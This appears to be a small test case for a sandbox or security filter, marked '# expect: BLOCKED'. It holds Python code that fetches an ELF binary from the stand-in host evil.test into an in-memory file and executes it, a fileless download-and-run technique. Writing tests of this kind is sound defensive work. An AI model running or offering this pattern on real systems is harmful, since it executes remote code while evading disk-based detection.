# expect: BLOCKED
import os, urllib.request
fd = os.memfd_create("x")
os.write(fd, urllib.request.urlopen("http://evil.test/elf").read())
os.execv(f"/proc/self/fd/{fd}", ["x"])
